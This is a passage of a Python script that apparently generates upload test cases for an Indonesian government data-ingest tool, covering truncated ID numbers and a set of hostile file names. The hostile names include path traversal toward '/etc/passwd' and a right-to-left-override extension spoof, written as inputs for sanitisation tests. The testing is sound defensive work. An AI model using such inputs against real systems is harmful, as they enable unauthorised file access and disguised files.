    add(Case("content_nik_excel_truncated", "dinsos_kpm", "kpm_nik_angka_terpotong.xlsx",
             xlsx_bytes({"Data": [h, *numeric]}), ACCEPTED,
             "NIKs typed as numbers, three of them cut by Excel to 15 significant digits (last digit 0): a warning "
             "that the last digit may be lost; numbers ending in another digit are exact", rows_valid=N,
             checks=("nik_mungkin_terpotong",)), "content")

    # ---------------------------------------------------------------- hostile file names
    h, rows = valid("pertanian_bibit")
    add(Case("name_traversal", "pertanian_bibit", "bibit\\..\\..\\..\\etc\\passwd.csv", csv_bytes(h, rows), ACCEPTED,
             "file name 'bibit\\..\\..\\..\\etc\\passwd.csv' (path traversal with backslashes)", rows_valid=N),
        "name")
    h, rows = valid("pertanian_bibit")
    add(Case("name_leading_dotdot", "pertanian_bibit", "..\\..\\etc\\passwd.csv", csv_bytes(h, rows), ACCEPTED,
             "file name starting with '..' ('..\\..\\etc\\passwd.csv')", rows_valid=N), "name")
    h, rows = valid("disdik_siswa")
    add(Case("name_control_chars", "disdik_siswa", "siswa\nOKT\t2026 \u202excod.csv", csv_bytes(h, rows), ACCEPTED,
             "newline, tab and a right-to-left override in the file name", rows_valid=N), "name")
    h, rows = valid("kelurahan_usulan")
    add(Case("name_url_chars", "kelurahan_usulan", "Usulan #1 ? 100% [final] & 'baru'.csv", csv_bytes(h, rows),
             ACCEPTED, "'#', '?', '%', brackets, quotes in the file name (URL-special)", rows_valid=N), "name")
    h, rows = valid("dinkes_ibu_hamil")
    add(Case("name_very_long", "dinkes_ibu_hamil", "Data Ibu Hamil " + "Kecamatan Telanaipura " * 10 + ".xlsx",
             xlsx_bytes({"Data": [h, *rows]}), ACCEPTED, "a 240-character file name", rows_valid=N), "name")
    h, rows = valid("koperasi_pemberdayaan")
    add(Case("name_upper_ext_nik", "koperasi_pemberdayaan", f"PESERTA {rows[0][0]}.CSV", csv_bytes(h, rows),
             ACCEPTED, "upper-case extension and a full NIK inside the file name", rows_valid=N), "name")
    return cases


def write(cases: list[Case], folder: Path) -> None:
    """Write every case as `{folder}/{case.id}/{sanitised name}` for trying by hand."""
    from tkpk.ingest.load import safe_name

    for case in cases:
        target = folder / case.id
        target.mkdir(parents=True, exist_ok=True)
        (target / safe_name(case.name)).write_bytes(case.data)


def markdown(cases: list[Case]) -> str:
    lines = ["| # | case | type | what | expected | key findings |", "|---|---|---|---|---|---|"]
    for i, c in enumerate(cases, start=1):
        outcome = c.outcome + (f", {c.rows_valid} rows kept" if c.rows_valid is not None else "")
        checks = ", ".join(f"`{x}`" for x in c.checks) or "-"
        lines.append(f"| {i} | `{c.id}` | {c.type} | {c.what.replace('|', '/')} | {outcome} | {checks} |")
    return "\n".join(lines)


if __name__ == "__main__":
    from tkpk.config import load_config
    from tkpk.settings import Settings

    built = build(load_config(Settings.from_env().config_dir))
    if len(sys.argv) > 1:
        write(built, Path(sys.argv[1]))
    print(markdown(built))
